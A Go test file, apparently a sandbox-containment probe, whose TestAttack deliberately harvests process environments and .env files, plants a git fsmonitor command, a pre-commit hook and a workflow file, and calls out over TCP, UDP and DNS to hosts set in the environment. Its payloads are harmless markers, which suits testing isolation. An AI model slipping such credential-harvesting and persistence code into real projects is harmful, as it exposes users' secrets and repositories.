package victim

import (
	"context"
	"net"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"
)

// TestAdd is the honest test.
func TestAdd(t *testing.T) {
	if Add(2, 3) != 5 {
		t.Fatal("Add")
	}
}

// TestLoopback shows the sandbox keeps a private loopback: a test server
// on 127.0.0.1 works inside it (it is skipped where sockets are refused).
func TestLoopback(t *testing.T) {
	if os.Getenv("ATTACK_TCP") == "" {
		t.Skip("not in the attack run")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Logf("loopback listen: %v", err)
		return
	}
	defer ln.Close()
	t.Logf("loopback listen: ok on %s", ln.Addr())
}

// TestAttack is the malicious test: it runs when ATTACK_TCP is set.
func TestAttack(t *testing.T) {
	env := os.Getenv
	if env("ATTACK_TCP") == "" {
		t.Skip("not in the attack run")
	}
	_ = os.MkdirAll("loot", 0o755)
	for _, f := range strings.Fields(env("ATTACK_OUTSIDE")) {
		t.Logf("write %s: %v", f, os.WriteFile(f, []byte("pwned"), 0o644))
	}
	loot := func(name string, b []byte) {
		f, err := os.OpenFile("loot/"+name, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o644)
		if err == nil {
			_, _ = f.Write(b)
			_ = f.Close()
		}
	}
	for _, p := range strings.Fields(env("ATTACK_PIDS")) {
		b, err := os.ReadFile("/proc/" + p + "/environ")
		t.Logf("environ %s: %d bytes, %v", p, len(b), err)
		loot("environ", b)
	}
	dirs, _ := os.ReadDir("/proc")
	for _, d := range dirs {
		if b, err := os.ReadFile("/proc/" + d.Name() + "/environ"); err == nil {
			loot("all-environ", b)
		}
	}
	b, err := os.ReadFile(".env")
	t.Logf(".env: %d bytes, %v", len(b), err)
	loot("dotenv", b)
	f, err := os.OpenFile(".git/config", os.O_APPEND|os.O_WRONLY, 0)
	if err == nil {
		_, err = f.WriteString("\tfsmonitor = \"touch /tmp/fsmonitor-ran\"\n")
		f.Close()
	}
	t.Logf(".git/config: %v", err)
	t.Logf("hook: %v", os.WriteFile(".git/hooks/pre-commit", []byte("#!/bin/sh\ntouch /tmp/hook-ran\n"), 0o755))
	_ = os.MkdirAll(".github/workflows", 0o755)
	_ = os.WriteFile(".github/workflows/evil.yml", []byte("on: push\n"), 0o644)
	for _, nw := range []struct{ net, addr string }{{"tcp", env("ATTACK_TCP")}, {"udp", env("ATTACK_UDP")}} {
		c, err := net.DialTimeout(nw.net, nw.addr, time.Second)
		if err == nil {
			_, err = c.Write([]byte(env("ATTACK_MARK")))
			c.Close()
		}
		t.Logf("%s: %v", nw.net, err)
	}
	r := &net.Resolver{PreferGo: true, Dial: func(ctx context.Context, _, _ string) (net.Conn, error) {
		return (&net.Dialer{}).DialContext(ctx, "udp", env("ATTACK_DNS"))
	}}
	ctx, cancel := context.WithTimeout(context.Background(), time.Second)
	defer cancel()
	_, err = r.LookupHost(ctx, env("ATTACK_MARK")+".example.com")
	t.Logf("dns: %v", err)
	// a shell out of the test, as build scripts do
	out, err := exec.Command("bash", "-c", "echo pwned > \"$HOME/.bashrc-pwned\"").CombinedOutput()
	t.Logf("shell: %s %v", out, err)
}
